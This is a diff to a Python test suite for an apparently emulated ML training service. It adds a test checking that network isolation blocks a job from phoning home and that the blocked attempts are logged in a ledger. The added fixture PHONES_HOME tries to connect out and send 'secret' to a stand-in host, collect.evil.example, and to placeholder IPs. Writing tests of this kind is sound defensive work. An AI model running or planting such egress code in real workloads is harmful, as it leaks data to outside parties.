@@ -74,6 +74,20 @@ try:
 except urllib.error.URLError as error:
     print("outside:", error.reason)
 """
+PHONES_HOME = """
+import socket, sys
+def tries(reach):
+    try: reach()
+    except OSError: pass
+def sends():
+    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as one:
+        one.connect(("2001:db8:9::9", 514))
+        one.send(b"secret")
+tries(lambda: socket.create_connection(("203.0.113.9", 443), 30))
+tries(sends)
+tries(lambda: socket.getaddrinfo("collect.evil.example", 443))
+sys.exit("nobody is home")
+"""
 WAITS = """
 import pathlib, signal, sys, time
 model = pathlib.Path("/opt/ml/model")
@@ -221,9 +235,33 @@ def test_a_program_reaches_the_front_door_as_its_role_and_nothing_else(trainer: 
     logged = trainer.logs.filter_log_events(logGroupName=LOG_GROUP, logStreamNamePrefix="asks/")["events"]
     text = "".join(event["message"] for event in logged)
     assert ":assumed-role/trainer/SageMaker" in text
-    assert "outside: [Errno 101]" in text
+    assert "outside: [Errno 1" in text  # refused, or no network at all
     trainer.create("alone", ASKS_WHO_IT_IS, EnableNetworkIsolation=True)
     assert "AWS_CONTAINER_CREDENTIALS_FULL_URI" in trainer.until("alone", *OVER)["FailureReason"]
+
+
+def test_a_job_that_phones_home_is_stopped_from_it_and_shows_in_its_log_and_the_ledger(
+    trainer: Trainer, training_factory: Factory
+) -> None:
+    trainer.create("phones", PHONES_HOME)
+    seen = trainer.until("phones", *OVER)
+    assert "nobody is home" in seen["FailureReason"]
+    logged = trainer.logs.filter_log_events(logGroupName=LOG_GROUP, logStreamNamePrefix="phones/")["events"]
+    text = "\n".join(event["message"] for event in logged)
+    assert "secret" not in text
+    if "not recorded" in training_factory.log.read_text():
+        pytest.skip("attempts are not recorded on this machine")
+    for destination in ("203.0.113.9:443 by TCP", "[2001:db8:9::9]:514 by UDP", "the name collect.evil.example"):
+        assert f"tried to reach {destination}" in text
+    done = training_factory.command("ledger", "tail", "-n", "200", "--json")
+    records = [json.loads(line) for line in done.stdout.splitlines()]
+    notes = [record for record in records if record.get("resource", "").endswith(":training-job/phones")]
+    assert {note["kind"] for note in notes} == {"egress-refused"}
+    assert {note["destination"] for note in notes} == {"203.0.113.9", "2001:db8:9::9", "collect.evil.example"}
+    assert {(note["account"], note["role"]) for note in notes} == {(trainer.role.split(":")[4], trainer.role)}
+    shown = training_factory.command("ledger", "tail", "-n", "200").stdout
+    assert "training-job/phones" in shown
+    assert "tcp 203.0.113.9:443" in shown
 
 
 def test_a_stopped_job_saves_what_it_has(trainer: Trainer) -> None:
